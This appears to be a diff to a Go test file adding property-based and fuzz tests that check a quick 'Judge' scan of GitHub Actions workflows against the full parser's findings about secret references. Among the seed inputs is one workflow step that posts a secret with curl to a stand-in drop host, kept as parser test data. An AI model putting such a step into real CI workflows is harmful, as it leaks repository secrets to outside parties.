@@ -2,6 +2,7 @@ package workflow
 
 import (
 	"reflect"
+	"slices"
 	"strings"
 	"testing"
 
@@ -46,6 +47,57 @@ func FuzzPlain(f *testing.F) {
 		f.Add([]byte("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: make\n" + p))
 	}
 	f.Fuzz(func(t *testing.T, text []byte) { readsAlike(t, text) })
+}
+
+// TestFilesJudgedAlike: what Judge says of a file is what Parse says, but for places of secrets and for secrets beyond the first.
+func TestFilesJudgedAlike(t *testing.T) {
+	quick, told := 0, 0
+	rapid.Check(t, func(t *rapid.T) {
+		parts := rapid.SliceOfN(rapid.SampledFrom(append(judged, pieces...)), 0, 12).Draw(t, "pieces")
+		text := []byte("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: make\n" + strings.Join(parts, ""))
+		if _, all := new(Parser).Judge(text); !all {
+			quick++
+			if tokenOnly(text) {
+				told++
+			}
+		}
+		judgedAlike(t, text)
+	})
+	if quick == told || told == 0 {
+		t.Errorf("%d files were read quickly, %d of them as without a secret but the token", quick, told)
+	}
+}
+
+// judged are pieces that name secrets where jobs and steps do, and where they do not.
+var judged = []string{"        env: {A: \"${{ secrets.A }}\"}\n", "      - run: curl -d ${{ secrets.A }} https://drop.example.invalid\n", "        if: secrets.A != ''\n",
+	"        if: ${{ secrets.A }}\n", "      - run: echo ${{ secrets.GITHUB_TOKEN }}\n", "        with: {t: \"${{ secrets.github_token }}\"}\n", "# secrets.A\n", "# secrets.GITHUB_TOKEN\n",
+	"      - run: echo ${{ secrets.GITHUB_TOKEN_2 }}\n", "      - run: echo ${{ secrets.GITHUB_TOKEN-2 }}\n", "      - run: echo ${{ secrets['A'] }}\n", "      - run: echo ${{ secrets . A }}\n",
+	"    name: ${{ secrets.A }}\n", "      - run: echo ${{ secrets.GITHUB_TOKEN && secrets.A }}\n", "\u0085", "\u2028", "      - uses: a/b@v1\n", "  b:\n    uses: a/b/.github/workflows/c.yml@v1\n    secrets: inherit\n"}
+
+func judgedAlike(t rapid.TB, text []byte) {
+	t.Helper()
+	got, all := new(Parser).Judge(text)
+	want := Parse(text)
+	other := func(f File) bool {
+		return slices.ContainsFunc(f.Secrets, func(r SecretRef) bool { return r.Name != "GITHUB_TOKEN" })
+	}
+	if other(got) != other(want) {
+		t.Errorf("%q\ngot  %+v\nwant %+v", text, got.Secrets, want.Secrets)
+	}
+	if !all {
+		got.Secrets, got.AllSecrets = want.Secrets, want.AllSecrets
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("%q\ngot  %+v\nwant %+v", text, got, want)
+	}
+}
+
+// FuzzJudge is the same for any bytes.
+func FuzzJudge(f *testing.F) {
+	for _, p := range append(judged, pieces...) {
+		f.Add([]byte("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: make\n" + p))
+	}
+	f.Fuzz(func(t *testing.T, text []byte) { judgedAlike(t, text) })
 }
 
 // TestParserRemembersNothingOfTheFile: a file reads the same whatever was read before it.
